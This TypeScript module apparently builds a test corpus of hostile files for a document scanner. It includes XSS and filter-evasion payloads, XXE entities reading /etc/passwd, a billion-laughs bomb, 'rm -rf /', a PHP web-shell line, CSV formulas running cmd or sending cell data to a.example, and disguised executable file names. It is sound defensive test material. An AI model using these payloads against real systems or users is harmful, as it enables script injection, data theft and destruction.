// Hostile pages, drawings, messages and texts: everything by which a browser or an office program could be made to act.
import { rowsOf, type HostileFile, type Row } from './hostile-file.ts';
import { makeMail } from './made-mail.ts';
import { makeMsg } from './made-office.ts';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Each is put into a page, into the body of a mail, and into one of Outlook. */
const PAGE_TRICKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//a.example></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnError = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<body onload="alert(1)">',
  '<p onclick=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  "<a href='vbscript:msgbox(1)'>x</a>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="//a.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<object data="a.swf"></object>',
  '<embed src="a.swf">',
  '<applet code="A.class"></applet>',
  '<base href="//a.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//a.example">',
  '<form action="//a.example"><input></form>',
  '<link rel="import" href="//a.example">',
  '<style>@import "//a.example";</style>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:exp/**/ression(alert(1))">x</p>',
  '<p style="-moz-binding:url(//a)">x</p>',
  '<p style="behavior:url(a.htc)">x</p>',
  '<p style="\\62 ehavior:url(a.htc)">x</p>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><svg onload=alert(1)>"></xmp>',
  '<!--<script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p title="<script>alert(1)</script>">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<img srcset="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<svg><animate onbegin=alert(1)>',
  '<svg><foreignObject><p>x</p></foreignObject></svg>',
  '<plaintext><script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<meta charset="utf-7"><p>x',
  '<img """><script>alert(1)</script>">',
  "<div/onmouseover='alert(1)'>x</div>",
  '<a href="ms-excel:ofe|u|http://a.example">x</a>',
  '<a href="search-ms:query=x">x</a>',
];

const PAGES: readonly Row[] = PAGE_TRICKS.flatMap((trick): Row[] => {
  const codes: Row[2] = ['active-markup', 'odd-encoding', 'hidden-content'];
  return [
    [`page with ${trick}`, 'a.html', codes, () => `<!DOCTYPE html><html><body><p>A letter</p>${trick}</body></html>`],
    [`mail with ${trick}`, 'a.eml', codes, () => makeMail([], { html: `<html><body>${trick}</body></html>` })],
  ];
});

const PAGE_FORMS: readonly Row[] = [
  [
    'page called .txt',
    'a.txt',
    ['active-markup', 'name-contradicts-content'],
    () => '<html><script>alert(1)</script></html>',
  ],
  ['page called .pdf', 'a.pdf', ['active-markup', 'name-contradicts-content'], () => '<html><p>x</p></html>'],
  ['page called .jpg', 'a.jpg', 'name-contradicts-content', () => '<html><body><p>x</p></body></html>'],
  [
    'page called .csv',
    'a.csv',
    ['active-markup', 'name-contradicts-content'],
    () => '<table><tr><td onclick=alert(1)>x</table>',
  ],
  [
    'page behind blanks',
    'a.txt',
    ['hidden-content', 'active-markup'],
    () => `${' \n'.repeat(500)}<script>alert(1)</script>`,
  ],
  ['page behind words', 'a.txt', 'hidden-content', () => 'hello <script>alert(1)</script>'],
  ['page behind a mark', 'a.txt', ['active-markup', 'hidden-content'], () => '\ufeff<html><script>alert(1)</script>'],
  ['page in UTF-16', 'a.txt', 'odd-encoding', () => Buffer.from('\ufeff<html><script>alert(1)</script>', 'utf16le')],
  [
    'page in UTF-16 called .html',
    'a.html',
    'odd-encoding',
    () => Buffer.from('\ufeff<script>alert(1)</script>', 'utf16le'),
  ],
  ['page in UTF-32', 'a.txt', 'odd-encoding', () => Buffer.from('fffe00003c000000', 'hex')],
  ['page with zeros in its tags', 'a.html', ['unknown-type', 'not-text'], () => '<scr\0ipt>alert(1)</script>'],
  ['page of Outlook with a script', 'a.msg', 'active-markup', () => makeMsg([], '<p>x</p><script>alert(1)</script>')],
  ['page of Outlook with a handler', 'a.msg', 'active-markup', () => makeMsg([], '<img src=x onerror=alert(1)>')],
  ['page kept with its pictures (MHTML)', 'a.mht', 'name-of-a-program', () => 'MIME-Version: 1.0\r\n'],
  [
    'XHTML with a script',
    'a.xhtml',
    'active-markup',
    () =>
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>alert(1)</script></body></html>',
  ],
];

const SVG_BODIES = [
  '<script>alert(1)</script>',
  '<script href="//a.example"/>',
  '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
  '<a href="java&#x9;script:alert(1)"><text>x</text></a>',
  '<rect onclick="alert(1)"/>',
  '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" src="//a"/>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<animate attributeName="xlink:href" values="javascript:alert(1)"/>',
  '<animate attributeName="onclick" to="alert(1)"/>',
  '<use href="http://a.example/a.svg#x"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
  '<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
  '<style>@import "//a.example";</style>',
  '<style>*{behavior:url(a.htc)}</style>',
  '<rect style="-moz-binding:url(a)"/>',
  '<handler type="text/javascript">alert(1)</handler>',
  '<object xmlns="http://www.w3.org/1999/xhtml" data="a"/>',
  '<feImage href="http://a.example/x"/>',
  '<g><g><g onload="alert(1)"/></g></g>',
  '<![CDATA[x]]><script><![CDATA[alert(1)]]></script>',
  '<embed xmlns="http://www.w3.org/1999/xhtml" src="a"/>',
  '<animate onend="alert(1)"/>',
  '<audio xmlns="http://www.w3.org/1999/xhtml" src="a"/>',
];

const DRAWINGS: readonly Row[] = [
  ...SVG_BODIES.map((body): Row => [
    `drawing with ${body}`,
    'a.svg',
    ['active-markup', 'outside-link'],
    () => `<svg ${SVG}>${body}</svg>`,
  ]),
  ['drawing that acts when shown', 'a.svg', 'active-markup', () => `<svg ${SVG} onload="alert(1)"/>`],
  ['drawing behind a comment', 'a.svg', 'active-markup', () => `<!-- x --><svg ${SVG}><script>1</script></svg>`],
  [
    'drawing with a sheet of styles',
    'a.svg',
    'active-markup',
    () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><svg ${SVG}/>`,
  ],
  [
    'drawing with words of its own',
    'a.svg',
    'entities',
    () => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "x">]><svg ${SVG}>&a;</svg>`,
  ],
  [
    'drawing with a billion laughs',
    'a.svg',
    'entities',
    () =>
      `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${SVG}>&c;</svg>`,
  ],
  [
    'drawing that reads a file',
    'a.svg',
    'entities',
    () => `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg ${SVG}>&a;</svg>`,
  ],
  [
    'drawing with words from elsewhere',
    'a.svg',
    'entities',
    () => `<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://a.example/x.dtd">%a;]><svg ${SVG}/>`,
  ],
  ['drawing called .png', 'a.png', ['name-contradicts-content', 'active-markup'], () => `<svg ${SVG}/>`],
  ['drawing in UTF-16', 'a.svg', 'odd-encoding', () => Buffer.from(`\ufeff<svg ${SVG} onload="alert(1)"/>`, 'utf16le')],
  ['drawing that is not whole', 'a.svg', 'broken', () => `<svg ${SVG}><g>`],
  [
    'drawing of 100,000 levels',
    'a.svg',
    'broken',
    () => `<svg ${SVG}>${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`,
  ],
  ['drawing with a second root', 'a.svg', 'broken', () => `<svg ${SVG}/><svg ${SVG}/>`],
  ['data with a word of its own', 'a.xml', 'entities', () => '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
  ['data with a word that is unknown', 'a.xml', 'broken', () => '<a>&x;</a>'],
  [
    'data that are a program (XSLT)',
    'a.xml',
    'active-markup',
    () => '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
  ],
  [
    'data that Word opens',
    'a.xml',
    'active-markup',
    () => '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="x"/>',
  ],
  [
    'data with a script of another space',
    'a.xml',
    'active-markup',
    () => '<a><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></a>',
  ],
  [
    'data in an encoding that browsers guess',
    'a.xml',
    'odd-encoding',
    () => '<?xml version="1.0" encoding="UTF-7"?><a/>',
  ],
  ['data in EBCDIC', 'a.xml', 'odd-encoding', () => '<?xml version="1.0" encoding="IBM037"?><a/>'],
  [
    'a scriptlet',
    'a.xml',
    ['active-markup'],
    () => '<?xml version="1.0"?><scriptlet><registration progid="x"/></scriptlet>',
  ],
  ['an XFA form', 'a.xml', 'active-markup', () => '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'],
];

const PROGRAM_TEXTS: readonly Row[] = [
  ['script of a shell', 'a.txt', 'not-a-document', () => '#!/bin/sh\nrm -rf /\n'],
  ['PHP', 'a.txt', 'not-a-document', () => '<?php system($_GET[0]);'],
  ['ASP', 'a.txt', 'not-a-document', () => '<% eval(request("x")) %>'],
  ['batch', 'a.txt', 'not-a-document', () => '@echo off\r\ndel *.*\r\n'],
  ['shortcut to an address', 'a.txt', 'not-a-document', () => '[InternetShortcut]\r\nURL=file://a.example/x\r\n'],
  ['registry', 'a.txt', 'not-a-document', () => 'Windows Registry Editor Version 5.00\r\n'],
  ['autorun', 'a.txt', 'not-a-document', () => '[autorun]\r\nopen=a.exe\r\n'],
  ['entry of a desktop', 'a.txt', 'not-a-document', () => '[Desktop Entry]\nExec=sh\n'],
  ['table of symbols (SLK)', 'a.txt', 'not-a-document', () => 'ID;P\nO;E\nC;X101;K0;EEXEC("calc")\n'],
  ...('js vbs wsf hta bat cmd ps1 sh py jar lnk url scr com reg chm iso img svgz mht jnlp xll docm xlsm pptm dotm one iqy slk library-ms settingcontent-ms'
    .split(' ')
    .map((ending): Row => [
      `called .${ending}`,
      `letter.${ending}`,
      'name-of-a-program',
      () => 'A letter',
    ]) satisfies readonly Row[]),
  ['called .PdF.ExE', 'letter.PdF.ExE', 'name-of-a-program', () => 'A letter'],
  ['called with a wide ending', 'letter.ｅｘｅ', 'name-of-a-program', () => 'A letter'],
  ['called with a blank behind', 'letter.exe ', 'name-of-a-program', () => 'A letter'],
  ['called with dots behind', 'letter.exe...', 'name-of-a-program', () => 'A letter'],
  ['called with direction marks', 'letter\u202efdp.exe', 'name-of-a-program', () => 'A letter'],
  ['called with a zero', 'letter.exe\0.txt\0', ['name-of-a-program', 'empty'], () => Buffer.alloc(0)],
  ['table that runs a program', 'a.csv', 'data-exchange', () => "a,b\n=cmd|' /C calc'!A0,1\n"],
  ['table that runs a program by plus', 'a.csv', 'data-exchange', () => '+cmd|"/c calc"!A1\n'],
  ['table that runs a program by at', 'a.csv', 'data-exchange', () => '"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'],
  ['table that fetches', 'a.csv', 'data-exchange', () => '=WEBSERVICE("http://a.example/"&A1)\n'],
  ['table that leaks', 'a.csv', 'data-exchange', () => '=HYPERLINK("http://a.example/?x="&A1,"click")\n'],
  ['control characters', 'a.txt', ['not-text', 'unknown-type'], () => 'a\x07b\x1b[31m'],
  ['control characters far behind', 'a.txt', 'not-text', () => `${'line\n'.repeat(2_000)}\x1b]0;x\x07`],
  ['a zero far behind', 'a.txt', 'not-text', () => `${'line\n'.repeat(2_000)}\0`],
  ['half a letter of UTF-16', 'a.txt', 'odd-encoding', () => Buffer.from('fffe61006200d8', 'hex')],
  ['half a pair of UTF-16', 'a.txt', 'odd-encoding', () => Buffer.from('fffe610000d86200', 'hex')],
  ['tags that nobody sees', 'a.txt', 'not-text', () => 'a\u{e0061}\u{e0062}'],
  ['nothing', 'a.txt', 'empty', () => ''],
  ['nothing called .pdf', 'a.pdf', 'empty', () => ''],
];

const MAILS: readonly Row[] = [
  ['mail with a program', 'a.eml', 'not-a-document', () => makeMail([{ name: 'a', data: 'MZ' }])],
  ['mail with a program called .pdf', 'a.eml', 'not-a-document', () => makeMail([{ name: 'a.pdf', data: 'MZ' }])],
  ['mail with a name of a program', 'a.eml', 'name-of-a-program', () => makeMail([{ name: 'a.js', data: 'x' }])],
  [
    'mail with a name in pieces',
    'a.eml',
    'name-of-a-program',
    () => rawPart('Content-Type: text/plain\r\nContent-Disposition: attachment; filename*0="a."; filename*1="exe"'),
  ],
  [
    'mail with a name in percents',
    'a.eml',
    'name-of-a-program',
    () => rawPart("Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=UTF-8''a%2Eexe"),
  ],
  [
    'mail with a name in words',
    'a.eml',
    'name-of-a-program',
    () => rawPart('Content-Type: text/plain\r\nContent-Disposition: attachment; filename="=?utf-8?B?YS5leGU=?="'),
  ],
  ['mail with two types', 'a.eml', 'two-in-one', () => rawPart('Content-Type: text/plain\r\nContent-Type: text/html')],
  [
    'mail with two encodings',
    'a.eml',
    'two-in-one',
    () => rawPart('Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 7bit'),
  ],
  [
    'mail in an odd encoding',
    'a.eml',
    'broken',
    () => rawPart('Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode'),
  ],
  [
    'mail with damaged base64',
    'a.eml',
    'broken',
    () => rawPart('Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64', '!!!!'),
  ],
  [
    'mail whose body is elsewhere',
    'a.eml',
    'outside-link',
    () => rawPart('Content-Type: message/external-body; access-type=URL'),
  ],
  ['mail that is a piece', 'a.eml', 'outside-link', () => rawPart('Content-Type: message/partial; id=1; number=1')],
  ['mail that is encrypted', 'a.eml', 'password-protected', () => rawPart('Content-Type: application/pkcs7-mime', 'x')],
  [
    'mail without its parts',
    'a.eml',
    ['truncated', 'broken'],
    () =>
      'From: a@example.org\r\nSubject: x\r\nDate: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\nnothing\r\n',
  ],
  ['mail in mail in mail', 'a.eml', 'too-deep', () => mailIn(6)],
  ['mail of parts in parts', 'a.eml', 'too-deep', () => partsIn(60)],
  [
    'mail of Outlook with a program',
    'a.msg',
    'not-a-document',
    () => makeMsg([{ name: 'a.pdf', data: Buffer.from('MZ') }]),
  ],
  [
    'mail of Outlook with a script',
    'a.msg',
    'name-of-a-program',
    () => makeMsg([{ name: 'a.vbs', data: Buffer.from('x') }]),
  ],
  [
    'page as a plain body',
    'a.eml',
    'hidden-content',
    () => rawPart('Content-Type: text/plain', '<html><script>alert(1)</script>'),
  ],
];

function rawPart(head: string, body = 'x'): Buffer {
  return makeMail([], { raw: `--mark-1\r\n${head}\r\n\r\n${body}\r\n` });
}

function mailIn(levels: number): Buffer {
  let mail = makeMail();
  for (let level = 0; level < levels; level += 1)
    mail = makeMail([{ name: 'a.eml', data: mail, type: 'message/rfc822', encoding: '7bit' }], {
      boundary: `outer-${level}`,
    });
  return mail;
}

function partsIn(levels: number): Buffer {
  const opened = Array.from(
    { length: levels },
    (_none, level) => `--b${level}\r\nContent-Type: multipart/mixed; boundary=b${level + 1}\r\n\r\n`,
  ).join('');
  return Buffer.from(
    `From: a@example.org\r\nSubject: x\r\nDate: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n${opened}--b${levels}\r\n\r\nx\r\n`,
  );
}

export const HOSTILE_MARKUP: readonly HostileFile[] = [
  ...rowsOf('page', PAGES),
  ...rowsOf('page', PAGE_FORMS),
  ...rowsOf('drawing', DRAWINGS),
  ...rowsOf('text', PROGRAM_TEXTS),
  ...rowsOf('mail', MAILS),
];
